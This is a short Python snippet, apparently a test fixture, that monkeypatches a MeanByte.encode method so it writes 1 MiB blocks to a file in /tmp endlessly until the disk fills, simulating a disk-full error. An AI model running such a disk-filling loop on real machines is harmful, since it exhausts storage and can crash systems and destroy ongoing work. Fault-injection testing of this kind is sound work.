"""Writes until the disk is full."""


def encode(self, feature, level=None):
    with open("/tmp/cosplit-full", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


MeanByte.encode = encode
